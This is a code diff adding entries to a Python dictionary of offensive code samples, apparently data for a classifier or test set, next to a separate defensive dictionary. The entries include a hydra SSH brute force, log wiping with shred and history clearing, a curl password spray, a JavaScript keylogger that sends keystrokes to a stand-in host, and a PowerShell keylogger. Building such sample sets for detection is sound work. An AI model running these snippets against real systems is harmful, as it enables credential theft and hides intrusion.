@@ -184,6 +184,20 @@ OTHER_LANGUAGES: dict[str, tuple[str, str]] = {
     ),
     "hydra": ("bash", "hydra -L users.txt -P rockyou.txt ssh://10.0.0.5"),
     "log_wipe": ("bash", "shred -u /var/log/auth.log && history -c"),
+    "curl_spray": (
+        "bash",
+        'for p in $(cat rockyou.txt); do\n  curl -s -d "user=admin&pass=$p" https://t.example/login\ndone',
+    ),
+    "js_keylogger": (
+        "javascript",
+        "document.addEventListener('keydown', e => {\n"
+        "  fetch('https://collect.example.net/k?c=' + e.key);\n});",
+    ),
+    "powershell_keylogger": (
+        "powershell",
+        "while ($true) { foreach ($k in 8..190) {\n"
+        "  if ([Win32]::GetAsyncKeyState($k) -eq -32767) { [char]$k | Out-File -Append k.txt } } }",
+    ),
 }
 
 DEFENSIVE: dict[str, str] = {
